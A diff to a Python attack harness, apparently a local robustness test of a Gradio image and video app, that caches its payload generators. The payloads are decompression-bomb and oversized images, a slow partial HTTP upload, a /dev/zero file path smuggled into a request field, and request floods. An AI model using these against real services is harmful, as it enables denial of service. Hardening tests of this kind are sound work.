@@ -25,6 +25,7 @@ import zlib
 from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
 from dataclasses import asdict, dataclass, field
+from functools import cache
 from pathlib import Path
 from typing import Any
 
@@ -109,6 +110,7 @@ def opened(client: httpx.Client) -> httpx.Response:
     return client.get("/")
 
 
+@cache
 def many_scans(count: int = 20_000) -> bytes:
     """Return a progressive JPEG of 0.7 MB that repeats its last scan."""
     file = io.BytesIO()
@@ -118,6 +120,7 @@ def many_scans(count: int = 20_000) -> bytes:
     return data[:last] + data[last:-2] * min(count, 700_000 // len(data[last:-2])) + b"\xff\xd9"
 
 
+@cache
 def sixteen_bits(side: int = 12_200) -> bytes:
     """Return a square grey PNG of 16 bits a pixel, all zeros."""
     head = struct.pack(">IIBBBBB", side, side, 16, 0, 0, 0, 0)
@@ -127,6 +130,13 @@ def sixteen_bits(side: int = 12_200) -> bytes:
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
 
 
+@cache
+def large_png() -> bytes:
+    """Return a PNG of 149 megapixels."""
+    return png_of_zeros(12_200, 12_200)
+
+
+@cache
 def thin_strip(height: int = 15_900_000) -> bytes:
     """Return a PNG of 1 pixel by `height`."""
     head = struct.pack(">IIBBBBB", 1, height, 8, 0, 0, 0, 0)
@@ -134,6 +144,7 @@ def thin_strip(height: int = 15_900_000) -> bytes:
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
 
 
+@cache
 def moving(side: tuple[int, int] = (1920, 1080), seconds: int = 60) -> bytes:
     """Return a film of few bytes whose frames are as large as the page takes them."""
     with tempfile.TemporaryDirectory() as folder:
@@ -165,8 +176,6 @@ class Attacker:
         """Return the attacks."""
         photo = "/live/photo?model=mixnmatch-cars-64"
         call, join = "/gradio_api/call/", "/gradio_api/queue/join"
-        jpeg, strip, deep = many_scans(), thin_strip(), sixteen_bits()
-        zeros, film = png_of_zeros(12_200, 12_200), moving()
         around = ['{"checkpoint": "giraffe-hd-cars-64"}', "", "", "Once around", None, 120, 20, "512 pixels", "GIF"]
         file = {"path": "/dev/zero", "meta": MARK}
         slow = b"POST /gradio_api/upload HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 9000000\r\n\r\n"
@@ -179,12 +188,12 @@ class Attacker:
             "foreign files": lambda: self.posts(20, call + "film", json={"data": [file, *around[1:]]}),
             "unfetched films": lambda: self.posts(20, call + "film", json={"data": around}),
             "fetched films": lambda: self.fetch("film", around),
-            "followed films": lambda: self.follow(film),
+            "followed films": lambda: self.follow(moving()),
             "uploads": lambda: self.posts(10, "/gradio_api/upload", files={"files": ("x.mp4", bytes(9_900_000))}),
-            "many scans": lambda: self.at_once(4, photo, jpeg),
-            "thin strip": lambda: self.at_once(4, photo, strip),
-            "large PNG": lambda: self.at_once(4, photo, zeros),
-            "16-bit PNG": lambda: self.at_once(4, photo, deep),
+            "many scans": lambda: self.at_once(4, photo, many_scans()),
+            "thin strip": lambda: self.at_once(4, photo, thin_strip()),
+            "large PNG": lambda: self.at_once(4, photo, large_png()),
+            "16-bit PNG": lambda: self.at_once(4, photo, sixteen_bits()),
         }
 
     def posts(self, count: int, path: str, **sent: Any) -> None:
